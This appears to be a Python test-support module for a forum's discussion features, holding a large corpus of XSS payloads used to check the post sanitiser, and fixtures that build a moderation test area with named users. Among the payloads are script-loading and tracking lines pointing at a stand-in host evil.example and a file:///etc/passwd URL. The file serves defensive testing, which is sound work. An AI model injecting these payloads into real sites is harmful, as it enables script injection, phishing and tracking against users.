"""Shared by the discussion tests: the sanitiser's corpus of hostile markup (`CASES`, also
posted in a real browser by tests/browser/test_discussion_safety.py); the moderation place
(`build_moderation_place`) with its helpers, used by the tests in moderation/; and
`make_people`, which makes the named people of every discussion place.
"""

from __future__ import annotations

from sqlalchemy import select

from forum.areas.models import Role
from forum.discussions.models import Post
from forum.extensions import db
from tests.factories import make_area, make_board, make_person_in, make_thread

# --- the corpus ----------------------------------------------------------------------------

SCRIPTS = [
    "<script>alert(1)</script>",
    "<SCRIPT>alert(1)</SCRIPT>",
    "<ScRiPt>window.__pwned=1</sCrIpT>",
    "<script src=https://evil.example/x.js></script>",
    "<script/xss src=//evil.example/x.js></script>",
    "<scr<script>ipt>alert(1)</scr</script>ipt>",
    "<<script>script>alert(1)<</script>/script>",
    "</p><script>alert(1)</script><p>",
    '<script type="module">import("//evil.example")</script>',
    "**<script>alert(1)</script>**",
    "> <script>alert(1)</script>",
    "- <script>alert(1)</script>",
    "`<script>alert(1)</script>`",
    "    <script>alert(1)</script>",
    "```html\n<script>alert(1)</script>\n```",
    "<script>\nalert(1)\n</script>",
    "\\<script>alert(1)\\</script>",
    "&lt;script&gt;alert(1)&lt;/script&gt;",
    '<noscript><p title="</noscript><img src=x onerror=alert(1)>"></noscript>',
    "<template><script>alert(1)</script></template>",
]

HANDLERS = [
    "<img src=x onerror=alert(1)>",
    '<img src=x onerror="alert(1)">',
    "<IMG SRC=x OnErRoR=alert(1)>",
    "<img/src=x/onerror=alert(1)>",
    "<img src=x onerror\n=alert(1)>",
    "<body onload=alert(1)>",
    "<svg onload=alert(1)>",
    "<svg/onload=alert(1)>",
    "<div onmouseover=alert(1)>hover</div>",
    "<p onclick=alert(1)>click</p>",
    "<a onclick=alert(1) href=https://a.example>x</a>",
    "<a href=https://a.example onfocus=alert(1) autofocus>x</a>",
    "<input autofocus onfocus=alert(1)>",
    "<details open ontoggle=alert(1)>",
    "<video><source onerror=alert(1)></video>",
    "<audio src=x onerror=alert(1)>",
    "<marquee onstart=alert(1)>",
    "<select autofocus onfocus=alert(1)>",
    "<textarea autofocus onfocus=alert(1)>",
    "<keygen autofocus onfocus=alert(1)>",
    "<strong onmouseover=alert(1)>bold</strong>",
    "<em/onpointerenter=alert(1)>x</em>",
    "<blockquote onanimationstart=alert(1)>q</blockquote>",
    "<li onclick=alert(1)>x</li>",
    "<br onload=alert(1)>",
]

ATTRIBUTES = [
    '<a hx-get="/areas/north/moderation" hx-trigger="load">x</a>',
    '<div hx-post="/sign-out" hx-trigger="load"></div>',
    '<p hx-on:click="alert(1)">x</p>',
    '<p hx-on::load="alert(1)">x</p>',
    '<form hx-post="/x" hx-trigger="every 1s"></form>',
    '<a data-hx-get="/x" data-hx-trigger="load">x</a>',
    '<p data-module="govuk-button">x</p>',
    '<p data-x="y" data-hx-boost="true">x</p>',
    '<p style="background:url(javascript:alert(1))">x</p>',
    '<p style="behavior:url(x.htc)">x</p>',
    '<p style="width:expression(alert(1))">x</p>',
    '<p class="govuk-visually-hidden app-danger">x</p>',
    '<p id="main-content">x</p>',
    '<a href="https://a.example" target="_blank">x</a>',
    '<a href="https://a.example" rel="opener">x</a>',
    '<a href="https://a.example" ping="https://evil.example">x</a>',
    '<a href="https://a.example" download>x</a>',
    '<p tabindex="0" autofocus contenteditable>x</p>',
    '<p is="x-evil">x</p>',
    '<p xmlns="http://www.w3.org/1999/xhtml" xml:base="javascript:">x</p>',
]

URLS = [
    "javascript:alert(1)",
    "JavaScript:alert(1)",
    "JAVASCRIPT:alert(1)",
    " javascript:alert(1)",
    "javascript :alert(1)",
    "java\tscript:alert(1)",
    "java\nscript:alert(1)",
    "java\rscript:alert(1)",
    "java&#x09;script:alert(1)",
    "java&#9;script:alert(1)",
    "&#106;avascript:alert(1)",
    "&#x6A;avascript:alert(1)",
    "&#0000106&#0000097vascript:alert(1)",
    "javascript&colon;alert(1)",
    "javascript&#58;alert(1)",
    "javascript%3Aalert(1)",
    "\x01javascript:alert(1)",
    "javascript://%0aalert(1)",
    "javascript://example.org/%0Aalert(1)",
    "javas\u0000cript:alert(1)",
    "java\u200bscript:alert(1)",
    "\u202ejavascript:alert(1)",
    "\u0458avascript:alert(1)",  # Cyrillic je
    "\u03f3avascript:alert(1)",  # Greek yot
    "\uff4a\uff41\uff56\uff41\uff53\uff43\uff52\uff49\uff50\uff54:alert(1)",  # full width
    "data:text/html,<script>alert(1)</script>",
    "data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==",
    "DATA:text/html,x",
    "data:image/svg+xml,<svg onload=alert(1)>",
    "vbscript:msgbox(1)",
    "VBScript:msgbox(1)",
    "livescript:alert(1)",
    "feed:javascript:alert(1)",
    "jar:https://evil.example!/",
    "file:///etc/passwd",
    "//evil.example/phish",
    "/areas/north/moderation",
    "https:javascript:alert(1)",
]

URL_FORMS = [
    "[click me]({url})",
    "[click me](<{url}>)",
    "<{url}>",
    "{url}",
    '<a href="{url}">click</a>',
    "[click me][ref]\n\n[ref]: {url}",
]

MALFORMED = [
    '<a href="https://a.example" <b>x</b>',
    '<a href="https://a.example>x</a>',
    "<a href=javascript:alert(1)//>x",
    "<p><p><p><em><strong>x",
    "</em></strong></p></li></ul>",
    "<!-- <script>alert(1)</script> -->",
    "<!--><script>alert(1)</script>-->",
    "<!-- unclosed comment <script>alert(1)</script>",
    "<![CDATA[<script>alert(1)</script>]]>",
    "<?xml version='1.0'?><script>alert(1)</script>",
    "<!DOCTYPE html><script>alert(1)</script>",
    "<style><img src=x onerror=alert(1)></style>",
    "<style>@import 'https://evil.example/x.css';</style>",
    "<title><img src=x onerror=alert(1)></title>",
    "<textarea><img src=x onerror=alert(1)></textarea>",
    "<xmp><img src=x onerror=alert(1)></xmp>",
    "<plaintext><img src=x onerror=alert(1)>",
    '<math><mi//xlink:href="data:x,<script>alert(4)</script>">',
    "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>",
    '<svg><![CDATA[><image xlink:href="]]><img src=x onerror=alert(2)//"></svg>',
    "<form><math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>",
    "<a href='https://a.example'><a href='javascript:alert(1)'>nested</a></a>",
    "<ul><li><a href=javascript:alert(1)>x</a></li></ul>",
    "<blockquote><blockquote><blockquote><script>alert(1)</script>",
    "<em>" * 200 + "deep" + "</em>" * 200,
    "> " * 100 + "deep quote",
    "<scrip\x00t>alert(1)</script>",
    "<\x00script>alert(1)</script>",
    "<script\x0c>alert(1)</script>",
    "<img src=`x` onerror=`alert(1)`>",
]

TAGS = [
    "<iframe src=https://evil.example></iframe>",
    "<iframe srcdoc='<script>alert(1)</script>'></iframe>",
    "<object data=javascript:alert(1)></object>",
    "<embed src=javascript:alert(1)>",
    "<frameset><frame src=javascript:alert(1)></frameset>",
    "<base href=javascript:alert(1)//>",
    "<meta http-equiv=refresh content='0;url=javascript:alert(1)'>",
    "<link rel=stylesheet href=https://evil.example/x.css>",
    "<form action=javascript:alert(1)><button>go</button></form>",
    "<button formaction=javascript:alert(1)>go</button>",
    "<img src=https://evil.example/tracker.png>",
    "![tracker](https://evil.example/tracker.png)",
    '![x](https://a.example/x.png "title" onerror=alert(1))',
    "![x](javascript:alert(1))",
    "![x](x onerror=alert(1))",
    "[![img](https://a.example/i.png)](https://a.example)",
    "<svg><script>alert(1)</script></svg>",
    "<svg><a xlink:href=javascript:alert(1)><text>x</text></a></svg>",
    "<svg><animate onbegin=alert(1) attributeName=x dur=1s>",
    "<svg><set attributeName=href to=javascript:alert(1)>",
    "<svg><foreignObject><script>alert(1)</script></foreignObject></svg>",
    "<table><tr><td background=javascript:alert(1)>x</td></tr></table>",
    "<h1>big</h1><hr><pre>x</pre><code>y</code>",
    "<dialog open>x</dialog>",
    "<portal src=https://evil.example></portal>",
]

MARKDOWN = [
    '[x](https://a.example "title" onclick="alert(1)")',
    "[x](https://a.example 'a\" onclick=\"b')",
    '[x](https://a.example/"onmouseover="alert(1))',
    "[x](https://a.example/' onmouseover='alert(1))",
    '[x](https://a.example (paren " onclick=alert(1)))',
    '<https://a.example"onclick="alert(1)>',
    "[[x](javascript:alert(1))](https://a.example)",
    "[x](https://a.example)[y](javascript:alert(1))",
    "[x\n](javascript:alert(1))",
    "[x](\njavascript:alert(1))",
    "[x](javascript:alert`1`)",
    "[x](javascript:alert&#40;1&#41;)",
    "[x]( javascript:alert(1) )",
    "[<script>alert(1)</script>](https://a.example)",
    "[x](https://a.example/<script>alert(1)</script>)",
    "[x](https://a.example/%22%3E%3Cscript%3Ealert(1)%3C/script%3E)",
    'https://a.example/"><script>alert(1)</script>',
    'www.evil.example/"onmouseover="alert(1)',
    "<mailto:a@b.example?subject=<script>>",
    '[mail](mailto:a@b.example"onclick="alert(1))',
    "*[x](javascript:alert(1))*",
    "> [x](javascript:alert(1))",
    "1. [x](javascript:alert(1))",
    "[x]: javascript:alert(1)\n[x]",
    "[x]\n\n[x]: <javascript:alert(1)>",
    '[x]\n\n[x]: https://a.example "t" onclick="alert(1)"',
]

UNICODE = [
    "\u202e<script>alert(1)</script>",
    "\u202etpircs/<)1(trela>tpircs<",
    "<scr\u200bipt>alert(1)</scr\u200bipt>",
    "<\u200bscript>alert(1)</script>",
    "\ufeff<script>alert(1)</script>",
    "<img\u00a0src=x\u00a0onerror=alert(1)>",
    "<img src=x onerror=alert(1)\u3000>",
    "\uff1cscript\uff1ealert(1)\uff1c/script\uff1e",  # full-width angle brackets
    "\u2039script\u203aalert(1)",
    "<\u0455cript>alert(1)</\u0455cript>",  # Cyrillic dze
    "مريم 👩‍👧 בית <script>alert(1)</script>",
    "\U0001f600" * 500,
    "\u0000\u0001\u0002<script>",
    "\ud7ff\ue000\uffff",
]

CASES = (
    SCRIPTS
    + HANDLERS
    + ATTRIBUTES
    + [form.format(url=url) for url in URLS for form in URL_FORMS]
    + MALFORMED
    + TAGS
    + MARKDOWN
    + UNICODE
)


# --- the moderation place ------------------------------------------------------------------

#: the people of North, by name (each signs in as <name>@example.org)
MODERATION_PEOPLE = {
    "ana": Role.MEMBER,
    "ben": Role.MEMBER,
    "cat": Role.MEMBER,
    "dee": Role.MEMBER,
    "olu": Role.ORGANISER,
    "rex": Role.RESPONDER,
}


def make_people(area, roles: dict) -> dict:
    """Each name in `roles` as a person with that role in `area`, signing in as
    <name>@example.org and called Name; by name."""
    return {
        name: make_person_in(area, role, email=f"{name}@example.org", name=name.title())
        for name, role in roles.items()
    }


def build_moderation_place() -> dict:
    """Call inside an app context. North with the people above, Sam in South, Adm the admin,
    and a thread by Ana in North's "Getting support" board. Returns ids: the area, board,
    thread and opening post, and each person's by name."""
    area = make_area(slug="north")
    people = make_people(area, MODERATION_PEOPLE)
    other = make_area(slug="south")
    people["sam"] = make_person_in(other, Role.MEMBER, email="sam@example.org", name="Sam")
    people["adm"] = make_person_in(None, None, email="adm@example.org", name="Adm")
    from forum.accounts.models import User

    db.session.get(User, people["adm"].id).is_admin = True
    db.session.commit()
    board = make_board(area, name="Getting support")
    thread = make_thread(board, people["ana"], title="Waiting lists", body="Months, for us")
    post = db.session.scalar(select(Post).where(Post.thread_id == thread.id))
    return {
        "area_id": area.id,
        "board_id": board.id,
        "thread_id": thread.id,
        "post_id": post.id,
        **{k: v.id for k, v in people.items()},
    }


def login(auth, name):
    if name != "anon":
        auth.login(f"{name}@example.org")


def user_of(place, name):
    from forum.accounts.models import User

    return db.session.get(User, place[name])


def report_url(place, post_id=None):
    return f"/areas/north/discussions/posts/{post_id or place['post_id']}/report"
